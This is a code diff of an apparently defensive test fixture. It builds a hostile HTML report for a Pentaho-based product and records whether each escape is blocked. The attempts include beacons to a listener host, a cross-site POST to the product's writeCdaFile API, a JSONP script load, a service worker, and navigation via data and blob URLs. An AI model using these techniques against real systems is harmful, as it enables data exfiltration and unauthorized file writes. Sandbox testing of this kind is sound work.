@@ -1,11 +1,28 @@
 // A report by somebody who means harm. It tries one thing after the other and writes down in #outcome what became of
-// each; what it sends to the listener, only the listener can tell.
+// each; what it sends to the listener, only the listener can tell. What makes it leave its page it does on demand.
 
 export interface Attempt {
   readonly name: string;
   readonly isStopped: boolean;
   readonly detail: string;
 }
+
+/** In its address: it keeps still, until `leaveBy` is called. */
+export const stillQuery = '?quieto=1';
+
+export const waysToLeave = [
+  'address',
+  'refresh',
+  'link',
+  'form',
+  'data',
+  'blob',
+  'form-to-product',
+  'logout',
+  'home',
+] as const;
+
+export type WayToLeave = (typeof waysToLeave)[number];
 
 export function buildHostileReport(listenerUrl: string): string {
   return `<!doctype html>
@@ -40,7 +57,7 @@ h1 { font-family: stolen; background: url("${listenerUrl}/css-background"); }
 <audio src="${listenerUrl}/audio" preload="auto"></audio>
 <svg width="1" height="1"><image href="${listenerUrl}/svg-image" width="1" height="1"/></svg>
 <form id="form" action="${listenerUrl}/form" method="post"><input name="a" value="b"></form>
-<form id="own-form" action="/pentaho/plugin/cda/api/writeCdaFile" method="post">
+<form id="product-form" action="/pentaho/plugin/cda/api/writeCdaFile" method="post">
   <input name="path" value="/public/roubado.cda"><input name="data" value="x">
 </form>
 <script>
@@ -166,7 +183,6 @@ async function tryEverything() {
     method: 'POST', mode: 'no-cors', credentials: 'include',
     body: new URLSearchParams({ path: '/public/roubado.cda', data: 'x' }),
   }).catch(() => {});
-  await attempt('send a form to the product', () => { document.getElementById('own-form').submit(); return stopped; });
   await attempt('results as a script', () => load(element('script'), {
     name: 'src',
     value: product + '/pentaho/plugin/cda/api/doQuery?path=/public/ocupacao-e-fluxo/ocupacao.cda&dataAccessId=unidades&outputType=json&jsonp=alert',
@@ -197,7 +213,6 @@ async function tryEverything() {
     worker.onerror = () => done(stopped);
   }));
   await attempt('service worker', () => navigator.serviceWorker.register(product + '/pentaho/api/repos/x/content'));
-  await attempt('form elsewhere', () => { document.getElementById('form').submit(); return stopped; });
   await attempt('ping of a link', () => {
     const link = Object.assign(element('a'), { href: '#', ping: listener + '/ping' });
     link.addEventListener('click', (event) => event.stopPropagation());
@@ -221,7 +236,30 @@ async function tryEverything() {
   }).then(() => stopped));
 }
 
-void tryEverything().then(() => {
+const page = '<script>fetch("' + listener + '/left-as-page")</' + 'script>';
+
+window.leaveBy = (way) => {
+  const ways = {
+    address: () => { window.location.href = listener + '/left?' + token; },
+    refresh: () => {
+      document.head.append(Object.assign(element('meta'), { httpEquiv: 'refresh', content: '0; url=' + listener + '/refreshed' }));
+    },
+    link: () => {
+      const link = Object.assign(element('a'), { href: listener + '/link' });
+      document.body.append(link);
+      link.click();
+    },
+    form: () => document.getElementById('form').submit(),
+    data: () => { window.location.href = 'data:text/html,' + encodeURIComponent(page); },
+    blob: () => { window.location.href = URL.createObjectURL(new Blob([page], { type: 'text/html' })); },
+    'form-to-product': () => document.getElementById('product-form').submit(),
+    logout: () => { window.location.href = product + '/pentaho/Logout'; },
+    home: () => { window.location.href = product + '/home'; },
+  };
+  ways[way]();
+};
+
+if (!window.location.search.includes('quieto')) void tryEverything().then(() => {
   document.body.append(Object.assign(element('pre'), { id: 'token', textContent: token }));
   document.body.append(Object.assign(element('pre'), { id: 'outcome', textContent: JSON.stringify(attempts) }));
 });
